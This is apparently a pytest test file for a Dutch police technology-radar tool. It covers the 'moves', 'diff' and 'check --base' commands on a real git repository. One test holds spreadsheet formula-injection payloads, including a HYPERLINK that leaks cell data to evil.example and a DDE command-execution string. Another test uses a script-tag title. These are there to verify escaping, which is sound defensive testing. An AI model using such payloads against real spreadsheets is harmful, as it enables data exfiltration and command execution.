"""`radar moves` in its three formats, and `radar diff` / `radar check --base` on a real git repository."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path

import pytest
import yaml
from conftest import ROOT
from inprocess import radar as in_process

from generator.i18n import catalogues

# --- radar moves on the sample radar ------------------------------------------------------------------


def test_moves_text_is_the_current_review():
    result = in_process("moves", "--source", str(ROOT))
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "Technologieradar Politie — Verschuivingen in editie 2026-Q4"
    assert lines[1] == "Vergeleken met editie 2026-Q3."
    assert (
        lines[2]
        == "nieuw: 4 · naar binnen: 6 · naar buiten: 2 · ongewijzigd: 26 · van de radar: 1 · terug op de radar: 1"
    )
    assert "    Low-code-platforms: Beproeven → Afwachten (naar buiten) — Binnen een jaar" in result.stdout
    assert "Datalake en lakehouse: Verkennen → Beproeven (naar binnen, terug op de radar)" in result.stdout
    retired = result.stdout.split("Van de radar gehaald\n")[1]
    assert retired.startswith("  Blockchain voor de bewijsketen (Platforms en infrastructuur, Laatste ring: Afwachten)")


def test_moves_markdown_has_a_table_per_quadrant():
    result = in_process("moves", "--format", "markdown", "--source", str(ROOT))
    assert result.returncode == 0, result.stderr
    md = result.stdout
    assert md.startswith("# Technologieradar Politie — Verschuivingen in editie 2026-Q4\n")
    assert "| naar binnen | 6 |" in md
    section = md.split("### Platforms en infrastructuur\n")[1].split("###")[0]
    assert "| Technologie | Van ring | Naar ring | Status | Toelichting |" in section
    assert "| Low-code-platforms | Beproeven | Afwachten | naar buiten | Binnen een jaar" in section
    assert "## Nieuw op de radar" in md and "| Edge computing | Platforms en infrastructuur | Verkennen |" in md


def test_moves_csv_one_row_per_change_for_any_edition():
    result = in_process("moves", "--edition", "2026-Q2", "--format", "csv", "--source", str(ROOT))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter=";"))  # Dutch: for Excel
    assert rows and {r["edition"] for r in rows} == {"2026-Q2"} and {r["previous_edition"] for r in rows} == {"2026-Q1"}
    by_id = {r["id"]: r for r in rows}
    assert by_id["blockchain-bewijsketen"]["status"] == "naar buiten"
    assert (by_id["blockchain-bewijsketen"]["from_ring"], by_id["blockchain-bewijsketen"]["to_ring"]) == (
        "Verkennen",
        "Afwachten",
    )
    assert by_id["datalake"]["status"] == "van de radar" and by_id["datalake"]["to_ring"] == ""
    assert by_id["datalake"]["note"].startswith("Van de radar gehaald")
    assert "ongewijzigd" not in {r["status"] for r in rows}


def test_moves_unknown_edition_names_the_choices():
    result = in_process("moves", "--edition", "2027-Q1", "--source", str(ROOT))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    # the sample is a Dutch radar, so the message is Dutch (tests/test_message_language.py)
    assert "fout: editie '2027-Q1' bestaat niet" in result.stderr and "2025-Q4, 2026-Q1" in result.stderr


def test_moves_on_broken_content_reports_problems(radar_dir):
    radar_dir.blip("bad", ring="nowhere")
    result = in_process("moves", "--source", str(radar_dir.root))
    assert result.returncode == 1 and "blips/bad.md:4:7: unknown ring 'nowhere'" in result.stderr


# --- a git repository with real commits --------------------------------------------------------------

GIT_ENV = {
    "GIT_AUTHOR_NAME": "Test",
    "GIT_AUTHOR_EMAIL": "test@example.invalid",
    "GIT_COMMITTER_NAME": "Test",
    "GIT_COMMITTER_EMAIL": "test@example.invalid",
    "GIT_CONFIG_NOSYSTEM": "1",
}


def git(repo: Path, *args: str) -> str:
    env = {**os.environ, **GIT_ENV, "HOME": str(repo)}
    done = subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True, check=True)
    return done.stdout


def blip(radar_dir, ident: str, **kwargs) -> None:
    radar_dir.blip(ident, **{"title": ident.title(), **kwargs})


def history(*entries: str) -> str:
    return "history:\n" + "".join(f"  - {{{e}}}\n" for e in entries)


@pytest.fixture
def repo(radar_dir) -> tuple[Path, object]:
    """A repository whose root is above the radar folder (a radar in a sub-folder), with one base commit."""
    root = radar_dir.root.parent
    blip(radar_dir, "alpha", ring="assess", extra=history("edition: 2026-Q1, ring: assess"))
    blip(radar_dir, "beta", ring="trial", extra=history("edition: 2026-Q1, ring: trial"))
    blip(radar_dir, "gamma", ring="hold", extra="summary: Old summary.\n" + history("edition: 2026-Q1, ring: hold"))
    blip(radar_dir, "delta", ring="trial")
    blip(radar_dir, "zeta", ring="assess", extra=history("edition: 2026-Q1, ring: assess"))
    git(root, "init", "-q")  # no -b option: git before 2.28 (still on some CI images) lacks it
    git(root, "symbolic-ref", "HEAD", "refs/heads/main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    return root, radar_dir


def _change(radar_dir) -> None:
    """What a pull request does: one recorded move, a retirement, a text edit, a new blip, two unrecorded moves."""
    blip(
        radar_dir,
        "alpha",
        ring="trial",
        extra=history("edition: 2026-Q1, ring: assess", "edition: 2026-Q2, ring: trial, note: Pilot works."),
    )
    blip(
        radar_dir,
        "beta",
        ring="trial",
        extra=history("edition: 2026-Q1, ring: trial", "edition: 2026-Q2, retired: true, note: No longer used."),
    )
    blip(
        radar_dir,
        "gamma",
        ring="hold",
        extra="summary: New summary.\n" + history("edition: 2026-Q1, ring: hold"),
        body="New.",
    )
    radar_dir.blip("epsilon", title="Eps | <script>x</script>", ring="adopt")
    blip(radar_dir, "delta", ring="adopt")  # no history at all: the loader takes it as new in 2026-Q2
    blip(radar_dir, "zeta", ring="trial", extra=history("edition: 2026-Q1, ring: trial"))  # history rewritten


def test_diff_reports_added_moved_retired_and_edited_as_markdown(repo):
    root, radar_dir = repo
    _change(radar_dir)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "change")
    result = in_process("diff", "HEAD~1", "--source", str(radar_dir.root))
    assert result.returncode == 0, result.stderr
    md = result.stdout
    assert md.startswith("## Radar changes against `HEAD~1` (edition 2026-Q2)\n")
    assert "1 added · 3 moved · 1 retired · 1 edited" in md
    moved = md.split("### Moved\n")[1].split("###")[0]
    assert "| Alpha (alpha) | Assess | Trial | Pilot works. |" in moved
    assert "| Delta (delta) | Trial | Adopt |" in moved and "| Zeta (zeta) | Assess | Trial |" in moved
    assert "| Beta (beta) | Trial | No longer used. |" in md.split("### Retired\n")[1]
    assert "| Gamma (gamma) | summary, text |" in md.split("### Edited\n")[1]
    added = md.split("### Added\n")[1].split("###")[0]
    assert "| Eps \\| &lt;script&gt;x&lt;/script&gt; (epsilon) | Data | Adopt |" in added
    assert "<script>" not in md


def test_diff_sees_the_working_tree_and_reads_nothing_but_git(repo):
    root, radar_dir = repo
    blip(radar_dir, "gamma", ring="hold", extra="summary: Uncommitted.\n" + history("edition: 2026-Q1, ring: hold"))
    result = in_process("diff", "HEAD", "--source", str(radar_dir.root))
    assert result.returncode == 0, result.stderr
    assert "| Gamma (gamma) | summary |" in result.stdout and "1 edited" in result.stdout
    assert git(root, "status", "--porcelain") == " M radar-src/blips/gamma.md\n"  # nothing else written


def test_diff_and_check_base_refuse_unknown_revisions_and_non_repositories(repo, tmp_path_factory):
    _, radar_dir = repo
    for args in (("diff", "no-such-branch"), ("check", "--base", "no-such-branch")):
        result = in_process(*args, "--source", str(radar_dir.root))
        assert result.returncode == 1 and "Traceback" not in result.stderr
        assert "unknown git revision 'no-such-branch'" in result.stderr
    outside = tmp_path_factory.mktemp("not-a-repo") / "radar"
    radar_dir.root.rename(outside)
    result = in_process("diff", "HEAD", "--source", str(outside))
    assert result.returncode == 1 and "is not in a git repository" in result.stderr


def test_check_base_names_each_unrecorded_move_by_file_line_and_column(repo):
    root, radar_dir = repo
    _change(radar_dir)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "change")
    assert in_process("check", "--source", str(radar_dir.root)).returncode == 0  # fine on its own
    result = in_process("check", "--base", "HEAD~1", "--source", str(radar_dir.root))
    assert result.returncode == 1, result.stderr
    errors = [line for line in result.stderr.splitlines() if ": ring changed" in line]
    assert [e.split(": ")[0] for e in errors] == ["blips/delta.md:4:7", "blips/zeta.md:4:7"]
    assert "from 'trial' (at the base revision) to 'adopt' without a history entry for edition 2026-Q2" in errors[0]
    assert errors[0].endswith("add this entry under history, with a note that says why:")
    # the fix below it: block YAML with the note quoted, indented under the problem, pasted as it is
    lines = result.stderr.splitlines()
    below = lines[lines.index(errors[0]) + 1 :][:3]
    fix = yaml.safe_load("history:\n" + "\n".join(line.removeprefix("    ") for line in below))
    assert fix == {"history": [{"edition": "2026-Q2", "ring": "adopt", "note": catalogues()["en"]["check.fix_note"]}]}
    github = in_process("check", "--base", "HEAD~1", "--format", "github", "--source", str(radar_dir.root))
    assert "::error file=blips/zeta.md,line=4,col=7::ring changed" in github.stdout

    # recording the moves fixes it; the check compares with the same base
    blip(radar_dir, "delta", ring="adopt", extra=history("edition: 2026-Q2, ring: adopt, note: Now standard."))
    blip(
        radar_dir,
        "zeta",
        ring="trial",
        extra=history("edition: 2026-Q1, ring: assess", "edition: 2026-Q2, ring: trial, note: Pilot."),
    )
    git(root, "commit", "-q", "-am", "record the moves")
    fixed = in_process("check", "--base", "HEAD~2", "--source", str(radar_dir.root))
    assert fixed.returncode == 0, fixed.stderr


def test_moves_csv_never_writes_a_live_formula(radar_dir):
    """Reproducer: `=HYPERLINK(...)` titles became live spreadsheet formulas. Every risky first character is quoted."""
    from inprocess import radar

    hostile = {
        "eq": '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3",
        "at": "@SUM(1+1)",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        "wide": "\uff1d1+1",
    }
    for ident, title in hostile.items():  # JSON strings are YAML double-quoted scalars
        note = f"history: [{{edition: 2026-Q2, ring: trial, note: {json.dumps(title)}}}]\n"
        radar_dir.blip(ident, title=json.dumps(title), extra=note)
    radar_dir.blip("plain", title="Plain = fine")
    result = radar("moves", "--format", "csv", "--source", str(radar_dir.root))
    assert result.returncode == 0, result.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    for ident, title in hostile.items():
        for column in ("title", "note"):  # quoted, and otherwise as written (the loader may trim whitespace)
            cell = rows[ident][column]
            assert cell.startswith("'") and cell[1:].strip() == title.strip(), (ident, column, cell)
    assert rows["plain"]["title"] == "Plain = fine"
    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert [cell for cell in cells if cell.startswith(starts)] == []


# --- radar diff: every kind of change ---------------------------------------------------------------


def test_diff_reports_removed_returned_and_history_only_edits(repo):
    """Mutation audit: dropping deleted files or history-only edits from `radar diff` went unnoticed."""
    root, radar_dir = repo
    blip(
        radar_dir,
        "omega",
        ring="hold",
        extra=history("edition: 2025-Q4, ring: hold", "edition: 2026-Q1, retired: true"),
    )
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "omega retired")
    (radar_dir.root / "blips" / "delta.md").unlink()  # removed: deleted instead of retired
    blip(
        radar_dir,
        "omega",
        ring="trial",
        extra=history(
            "edition: 2025-Q4, ring: hold",
            "edition: 2026-Q1, retired: true",
            "edition: 2026-Q2, ring: trial, note: Back in use.",
        ),
    )
    blip(
        radar_dir,
        "gamma",
        ring="hold",
        extra="summary: Old summary.\n" + history("edition: 2026-Q1, ring: hold, note: Why we hold."),
    )
    result = in_process("diff", "HEAD", "--source", str(radar_dir.root))
    assert result.returncode == 0, result.stderr
    md = result.stdout
    assert "1 returned · 1 edited · 1 removed" in md
    assert "| Omega (omega) | Trial | Back in use. |" in md.split("### Returned\n")[1].split("###")[0]
    assert "| Gamma (gamma) | history |" in md.split("### Edited\n")[1].split("###")[0]
    removed = md.split("### Removed\n")[1]
    assert "| Delta (delta) | blips/delta.md (deleted: retire it with a history entry instead) |" in removed


# --- file names git allows and the radar does not, and renames ---------------------------------------


def test_base_with_file_names_that_are_not_utf8_or_hold_a_newline(repo):
    """Reproducer: such a name committed on main made every later `diff` and `check --base` crash."""
    root, radar_dir = repo
    blips = os.fsencode(radar_dir.root / "blips")
    for name in (b"caf\xe9.md", b"new\nline.md"):
        with open(blips + b"/" + name, "wb") as handle:
            handle.write(b"---\ntitle: Odd\nquadrant: data\nring: trial\n---\nText.\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "odd names slipped in")
    for args in (("diff", "HEAD"), ("check", "--base", "HEAD")):  # the working tree still holds them
        result = in_process(*args, "--source", str(radar_dir.root))
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        assert "new\\x0aline.md:1:1: the file name is the blip's id" in result.stderr  # escaped, one line
    git(root, "rm", "-q", "--", os.fsdecode(blips + b"/caf\xe9.md"), os.fsdecode(blips + b"/new\nline.md"))
    blip(radar_dir, "beta", ring="adopt", extra=history("edition: 2026-Q1, ring: adopt"))  # history rewritten
    checked = in_process("check", "--base", "HEAD", "--source", str(radar_dir.root))
    assert checked.returncode == 1 and "Traceback" not in checked.stderr, checked.stderr
    assert "blips/beta.md:4:7: ring changed from 'trial' (at the base revision) to 'adopt'" in checked.stderr
    diffed = in_process("diff", "HEAD", "--source", str(radar_dir.root))
    assert diffed.returncode == 0 and "| Beta (beta) | Trial | Adopt |" in diffed.stdout, diffed.stderr


@pytest.mark.parametrize("how", ["git mv", "mv"])
def test_check_base_follows_a_renamed_blip(repo, how):
    """Reproducer: rename a blip, change its ring and rewrite its history, and `check --base` passed."""
    root, radar_dir = repo
    blips = radar_dir.root / "blips"
    if how == "git mv":
        git(root, "mv", str(blips / "zeta.md"), str(blips / "zeta-platform.md"))
    else:
        (blips / "zeta.md").rename(blips / "zeta-platform.md")  # not in the index at all
    blip(radar_dir, "zeta-platform", title="Zeta", ring="trial", extra=history("edition: 2026-Q1, ring: trial"))
    result = in_process("check", "--base", "HEAD", "--source", str(radar_dir.root))
    assert result.returncode == 1, result.stderr
    assert (
        "blips/zeta-platform.md:4:7: ring changed from 'assess' (at the base revision, as blip 'zeta') to 'trial'"
        in result.stderr
    )
    blip(
        radar_dir,
        "zeta-platform",
        title="Zeta",
        ring="trial",
        extra=history("edition: 2026-Q1, ring: assess", "edition: 2026-Q2, ring: trial, note: Pilot."),
    )
    assert in_process("check", "--base", "HEAD", "--source", str(radar_dir.root)).returncode == 0
